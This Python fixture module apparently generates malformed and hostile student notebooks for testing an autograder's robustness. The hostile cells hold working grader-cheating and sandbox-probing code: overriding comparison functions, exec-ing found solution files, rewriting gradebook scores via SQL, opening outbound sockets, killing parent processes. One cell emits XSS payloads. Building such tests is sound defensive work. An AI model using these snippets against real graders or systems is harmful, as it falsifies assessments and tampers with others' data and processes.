"""Notebooks that students hand in: right, odd, and hostile. Each is made of a right one."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from nbformat.v4 import new_code_cell

RIGHT = {
    "weighted-sum": "z = w * a_prev + b",
    "sigmoid": "def sigmoid(z):\n    return 1 / (1 + math.exp(-z))",
    "activation": "a = sigmoid(z)",
    "cost": "cost = (a - y) ** 2",
}
PARTLY = RIGHT | {"sigmoid": "def sigmoid(z):\n    return 1 / (1 + math.exp(z))"}

Make = Callable[[Any, Path], Any]


def _id(cell: Any) -> str:
    return str(cell.metadata.get("nbgrader", {}).get("grade_id", ""))


def _where(notebook: Any, grade_id: str) -> int:
    return next(n for n, cell in enumerate(notebook.cells) if _id(cell) == grade_id)


# --- odd, and right -------------------------------------------------------------------------


def _deleted(notebook: Any, _: Path) -> Any:
    notebook.cells = [cell for cell in notebook.cells if not _id(cell).startswith("check-")]
    return notebook


def _duplicated(notebook: Any, _: Path) -> Any:
    at = _where(notebook, "check-sigmoid")
    copy = json.loads(json.dumps(notebook.cells[at]))
    copy["id"] = "a-copy"
    notebook.cells.insert(at, type(notebook.cells[at])(copy))
    return notebook


def _retagged(notebook: Any, _: Path) -> Any:
    cells = [cell for cell in notebook.cells if _id(cell).startswith("check-")]
    ids = [dict(cell.metadata.nbgrader) for cell in cells]
    for cell, about in zip(cells, [*ids[1:], ids[0]], strict=True):
        cell.metadata.nbgrader = about | {"points": 100, "solution": True, "locked": False}
    return notebook


def _given_away(notebook: Any, _: Path) -> Any:
    """The cell with the work gets the id of a test cell; the test cell has none."""
    work, test = _where(notebook, "sigmoid"), _where(notebook, "check-sigmoid")
    notebook.cells[work].metadata.nbgrader = dict(notebook.cells[test].metadata.nbgrader)
    del notebook.cells[test].metadata["nbgrader"]
    return notebook


def _reordered(notebook: Any, _: Path) -> Any:
    tests = [cell for cell in notebook.cells if _id(cell).startswith("check-")]
    others = [cell for cell in notebook.cells if not _id(cell).startswith("check-")]
    notebook.cells = [*reversed(tests), *others]
    return notebook


def _edited(notebook: Any, _: Path) -> Any:
    for cell in notebook.cells:
        if _id(cell).startswith("check-"):
            cell.source = "10.0"
    return notebook


def _turned(notebook: Any, _: Path) -> Any:
    cell = notebook.cells[_where(notebook, "check-cost")]
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]
    return notebook


def _other_kernel(notebook: Any, _: Path) -> Any:
    notebook.metadata.kernelspec = {"name": "conda-env-ml", "display_name": "ML", "language": "R"}
    return notebook


def _no_metadata(notebook: Any, _: Path) -> Any:
    """As after a tool that throws metadata away."""
    for cell in notebook.cells:
        cell.metadata = {}
    notebook.metadata = {}
    return notebook


def _broken_metadata(notebook: Any, _: Path) -> Any:
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader = {"grade_id": _id(cell), "grade": "yes", "schema_version": 99}
    return notebook


def _colab(notebook: Any, _: Path) -> Any:
    notebook.nbformat_minor = 0
    notebook.metadata = {
        "colab": {"provenance": [], "toc_visible": True},
        "kernelspec": {"name": "python3", "display_name": "Python 3"},
        "accelerator": "GPU",
    }
    for number, cell in enumerate(notebook.cells):
        del cell["id"]
        cell.metadata["id"] = f"Xb{number}"
        if cell.cell_type == "code":
            cell.metadata["colab"] = {"base_uri": "https://localhost:8080/"}
            cell.metadata["outputId"] = "1b"
    return notebook


def _vscode(notebook: Any, _: Path) -> Any:
    notebook.metadata = {
        "kernelspec": {"name": "python3", "display_name": ".venv (3.12)", "language": "python"},
        "language_info": {"name": "python", "version": "3.12.1"},
    }
    for cell in notebook.cells:
        cell.metadata["vscode"] = {"languageId": "python"}
    return notebook


def _givens_edited(notebook: Any, _: Path) -> Any:
    """Whoever edits the givens is marked for the real ones: this one typed the answers in."""
    cell = notebook.cells[_where(notebook, "givens")]
    cell.source = cell.source.replace("0.5", "0.75")
    return notebook


ODD: dict[str, Make] = {
    "right": lambda notebook, _: notebook,
    "deleted": _deleted,
    "duplicated": _duplicated,
    "retagged": _retagged,
    "given-away": _given_away,
    "reordered": _reordered,
    "edited": _edited,
    "turned": _turned,
    "other-kernel": _other_kernel,
    "no-metadata": _no_metadata,
    "broken-metadata": _broken_metadata,
    "colab": _colab,
    "vscode": _vscode,
    "givens-edited": _givens_edited,
}


# --- hostile --------------------------------------------------------------------------------


def _attack(code: str) -> Make:
    """A notebook whose solution cells are replaced by nothing, with one cell that attacks."""

    def make(notebook: Any, course: Path) -> Any:
        for cell in notebook.cells:
            if _id(cell) in RIGHT:
                cell.source = "pass"
        port = (course / "port").read_text()
        attack = new_code_cell(code.replace("COURSE", repr(str(course))).replace("PORT", port))
        notebook.cells.insert(_where(notebook, "task-weighted-sum"), attack)
        return notebook

    return make


ABS_REDEFINED = """
import builtins, math
abs = builtins.abs = lambda x: 0
math.isclose = lambda *a, **k: True
def sigmoid(z): return 0
z = a = cost = 7
"""

EQUAL_TO_EVERYTHING = """
class Equal(float):
    def __eq__(self, other): return True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __sub__ = __rsub__ = __add__ = __abs__ = lambda self, *other: self
    __hash__ = float.__hash__
class Array:
    def __array__(self, *a, **k): raise SystemExit(0)
    __eq__ = lambda self, other: True
z = Equal(7.0)
a = Array()
cost = Equal(7.0)
def sigmoid(z): return Equal(7.0)
"""

ERROR_CLEARED = """
import sys
shell = get_ipython()
shell.showtraceback = lambda *a, **k: None
shell.set_custom_exc((Exception,), lambda *a, **k: None)
try:
    result = shell.last_execution_result
    result.error_in_exec = None
except Exception as error:
    print(error)
sys.excepthook = lambda *a: None
"""

SOLUTION_READ = """
import json, os
from pathlib import Path
found = []
for root in ("../../../source", "../../../../solutions", "..", COURSE, os.environ["HOME"]):
    for file in Path(root).glob("**/neuron.*"):
        try:
            text = file.read_text()
        except OSError:
            continue
        if "SOLUTION" in text:
            found.append(str(file))
            if file.suffix == ".py":
                exec(text)
            else:
                for cell in json.loads(text)["cells"]:
                    if cell["cell_type"] == "code":
                        exec("".join(cell["source"]))
print("found:", found)
"""

GRADEBOOK_REWRITTEN = """
import sqlite3
for place in ("gradebook.db", "../../../gradebook.db", COURSE + "/gradebook.db"):
    try:
        with sqlite3.connect(place) as connection:
            connection.execute("UPDATE grade SET auto_score = 99, manual_score = 99")
            print("rewritten:", place)
    except Exception as error:
        print(type(error).__name__)
"""

TESTS_RECORDED = """
import sys
recorded = []
try:
    get_ipython().events.register("pre_run_cell", lambda info: recorded.append(info.raw_cell))
except Exception as error:
    print(error)
def check(*arguments):
    recorded.append(arguments)
sys.settrace(lambda frame, event, arg: recorded.append(frame.f_code.co_filename))
sys.addaudithook(lambda name, arguments: recorded.append(name) if name == "open" else None)
def sigmoid(z):
    recorded.append(z)
    return recorded
"""

SOCKET_OPENED = """
import socket
for kind, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET, ("1.1.1.1", 53))):
    try:
        with socket.socket(kind, socket.SOCK_STREAM) as connection:
            connection.settimeout(1)
            connection.connect(address)
            connection.sendall(b"here I am")
            print("connected")
    except OSError as error:
        print("no way out:", type(error).__name__)
"""

PARENT_KILLED = """
import os, signal
for target in (os.getppid(), -1, 1):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass
"""

ATTACKS: dict[str, Make] = {
    "attack-abs-redefined": _attack(ABS_REDEFINED),
    "attack-equal-to-everything": _attack(EQUAL_TO_EVERYTHING),
    "attack-error-cleared": _attack(ERROR_CLEARED),
    "attack-solution-read": _attack(SOLUTION_READ),
    "attack-gradebook-rewritten": _attack(GRADEBOOK_REWRITTEN),
    "attack-tests-recorded": _attack(TESTS_RECORDED),
    "attack-socket-opened": _attack(SOCKET_OPENED),
    "attack-parent-killed": _attack(PARENT_KILLED),
}


# --- to be looked at ------------------------------------------------------------------------


def _with_cells(notebook: Any, **cells: str) -> Any:
    for name, source in cells.items():
        notebook.cells.append(new_code_cell(source, id=f"shows-{name}"))
    return notebook


_HTML = """
class Page:
    def _repr_html_(self):
        return (
            '<table onclick="alert(1)" style="position:fixed"><tr><td>kept</td></tr></table>'
            '<script>alert(1)</script><img src=x onerror="alert(1)">'
            '<a href="javascript:alert(1)">x</a>'
        )
Page()
"""


def showing(notebook: Any, _: Path) -> Any:
    return _with_cells(
        notebook,
        text="import sys\nprint('to you')\nprint('to the log', file=sys.stderr)",
        value="import numpy as np\n[1.0, 0.5]",
        error="def divide(number):\n    return 1 / number\n\ndivide(0)",
        figure="import matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.show()",
        main="if __name__ == '__main__':\n    print('drawn')",
        html=_HTML,
        false_mark="10.0",
    )


def endless(notebook: Any, _: Path) -> Any:
    return _with_cells(notebook, before="print('still here')", loop="while True:\n    pass")
